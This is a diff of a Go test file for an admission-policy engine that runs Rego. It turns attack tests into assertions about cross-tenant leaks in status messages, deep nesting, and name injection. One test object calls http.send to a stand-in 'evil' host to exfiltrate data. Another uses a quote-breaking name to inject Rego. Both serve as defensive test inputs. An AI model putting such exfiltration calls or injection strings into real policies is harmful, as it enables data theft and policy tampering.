@@ -177,17 +177,15 @@ func TestAttackManyBrokenObjects(t *testing.T) {
 func TestAttackStatusLeaksRecentInput(t *testing.T) {
 	w, _ := newTestWatcher(t, "")
 	w.Objects = func(context.Context) ([]Object, error) { return nil, nil }
-	in := &Input{Operation: "CREATE", Namespace: "team-secret", Name: "project-x-train", Version: "v1", Kind: "Pod",
-		Object: []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"project-x-train"},"spec":{"containers":[{"name":"c","image":"i"}]}}`)}
-	v, _ := in.Value()
-	if _, err := w.Engine.Evaluate(t.Context(), v); err != nil {
-		t.Fatal(err)
-	}
-	objs := []Object{{Name: "p", UID: "p", Generation: 1, Rego: "package credgate.admission\n\ndeny := {x} if { input.request.namespace == \"team-secret\"; x := 1 }\n\ndeny := {x} if { input.request.namespace == \"team-secret\"; x := 2 }\n"}}
+	admitSecretPod(t, w)
+	// Fails only on the recent input: two values for one namespace.
+	objs := []Object{{Name: "p", UID: "p", Generation: 1, Rego: "package credgate.admission\n\nlevel(ns) := 1 if ns == \"team-secret\"\n\nlevel(ns) := 2 if ns == \"team-secret\"\n\ndeny contains {\"rule\": \"r\", \"message\": \"m\"} if level(input.request.namespace) > 5\n"}}
 	w.Objects = func(context.Context) ([]Object, error) { return objs, nil }
 	_, _ = w.Reload(t.Context())
 	st := w.ObjectStatuses()["p"]
-	t.Logf("status: %+v", st)
+	if st.Served || st.Reason != "EvaluationError" || !strings.Contains(st.Message, "on a recent admission") {
+		t.Fatalf("status %+v, want it refused on the recent input", st)
+	}
 	if strings.Contains(st.Message, "team-secret/project-x-train") {
 		t.Errorf("status message names another tenant's pod: %q", st.Message)
 	}
@@ -337,17 +335,14 @@ func TestAttackWholeStatusLeaksRecentInput(t *testing.T) {
 	writeFile(t, dir, "helpers.rego", "package team.helpers\n\npick(ns) := {1} if ns == \"team-secret\"\n\npick(ns) := {2} if ns == \"team-secret\"\n\npick(ns) := {3} if ns != \"team-secret\"\n")
 	w, _ := newTestWatcher(t, dir)
 	w.Objects = func(context.Context) ([]Object, error) { return nil, nil }
-	in := &Input{Operation: "CREATE", Namespace: "team-secret", Name: "project-x-train", Version: "v1", Kind: "Pod",
-		Object: []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"project-x-train"},"spec":{"containers":[{"name":"c","image":"i"}]}}`)}
-	v, _ := in.Value()
-	if _, err := w.Engine.Evaluate(t.Context(), v); err != nil {
-		t.Fatal(err)
-	}
+	admitSecretPod(t, w)
 	objs := []Object{{Name: "p", UID: "p", Generation: 1, Rego: "package credgate.admission\n\nimport data.team.helpers\n\ndeny contains x if { some x in helpers.pick(input.request.namespace); x > 5 }\n"}}
 	w.Objects = func(context.Context) ([]Object, error) { return objs, nil }
 	_, _ = w.Reload(t.Context())
 	st := w.ObjectStatuses()["p"]
-	t.Logf("status: %+v", st)
+	if st.Served || st.Reason != "EvaluationError" {
+		t.Fatalf("status %+v, want it refused on the recent input", st)
+	}
 	if strings.Contains(st.Message, "team-secret/project-x-train") {
 		t.Errorf("status message names another tenant's pod: %q", st.Message)
 	}
@@ -377,29 +372,49 @@ func TestAttackTenantKnockoutPersists(t *testing.T) {
 }
 
 func TestAttackMisc(t *testing.T) {
-	// forbidden builtins in an object
+	// Forbidden built-in functions are refused in an object as in a file.
 	src, _ := Merge(Builtin(), ObjectsSource([]Object{{Name: "exfil", Rego: "package credgate.admission\n\ndeny contains x if { x := http.send({\"method\": \"get\", \"url\": \"http://evil\"}) }\n"}}))
-	_, err := Compile(t.Context(), src)
-	t.Logf("http.send: %v", err)
-	// deep nesting
+	if _, err := Compile(t.Context(), src); err == nil || !strings.Contains(objectMessage(err, "exfil"), "http.send") {
+		t.Errorf("an object calling http.send: %v, want it refused, naming http.send", err)
+	}
+	// Deep nesting is refused by the parser's depth limit, not a stack overflow.
 	deep := "package credgate.admission\n\nx := " + strings.Repeat("[", 200000) + "\n"
 	src, _ = Merge(Builtin(), ObjectsSource([]Object{{Name: "deep", Rego: deep}}))
-	start := time.Now()
-	_, err = Compile(t.Context(), src)
-	t.Logf("deep: %v in %v", strings.SplitN(fmt.Sprint(err), "\n", 2)[0], time.Since(start))
-	// x vs x.rego
+	if _, err := Compile(t.Context(), src); err == nil {
+		t.Error("an object nested 200,000 deep compiled")
+	}
+	// x and x.rego are different objects: the error of one is not the other's.
 	src, _ = Merge(Builtin(), ObjectsSource([]Object{{Name: "x", Rego: atkRule("x")}, {Name: "x.rego", Rego: "package credgate.admission\n\ndeny contains y if { z == 1 }\n"}}))
-	_, err = Compile(t.Context(), src)
-	t.Logf("blamed %v; message of x: %q", blamedObjects(err), objectMessage(err, "x"))
-	// a name with a quote cannot reach the query: ObjectsSource does not validate, but the name is quoted
-	q := planQuery(nil, nil, nil)
-	_ = q
+	_, err := Compile(t.Context(), src)
+	if msg := objectMessage(err, "x"); msg != notLocated {
+		t.Errorf("x is given x.rego's error: %q", msg)
+	}
+	if msg := objectMessage(err, "x.rego"); !strings.Contains(msg, "line 3:") {
+		t.Errorf("x.rego's error: %q, want its line", msg)
+	}
+	// A name with quotes cannot reach the generated query: it is quoted.
 	src, _ = Merge(Builtin(), ObjectsSource([]Object{{Name: "a\"] ; deny := [1]; x := [\"", Rego: atkRule("q")}}))
 	rev, err := Compile(t.Context(), src)
-	if err == nil {
-		res, err := rev.Evaluate(t.Context(), objectInput(t, "ns", nil))
-		t.Logf("quoted name: compiled; deny %v err %v", res.Deny, err)
-	} else {
-		t.Logf("quoted name: %v", err)
+	if err != nil {
+		t.Fatalf("a quoted name: %v", err)
+	}
+	res, err := rev.Evaluate(t.Context(), objectInput(t, "ns", nil))
+	if err != nil || len(res.Deny) != 1 || res.Deny[0].Rule != "q" {
+		t.Errorf("a quoted name: deny %+v, %v; want its one violation, nothing injected", res.Deny, err)
+	}
+}
+
+// admitSecretPod has w's engine admit a pod project-x-train of namespace team-secret, which
+// the canary then evaluates as a recent input.
+func admitSecretPod(t *testing.T, w *Watcher) {
+	t.Helper()
+	in := &Input{Operation: "CREATE", Namespace: "team-secret", Name: "project-x-train", Version: "v1", Kind: "Pod",
+		Object: []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"project-x-train"},"spec":{"containers":[{"name":"c","image":"i"}]}}`)}
+	v, err := in.Value()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.Engine.Evaluate(t.Context(), v); err != nil {
+		t.Fatal(err)
 	}
 }
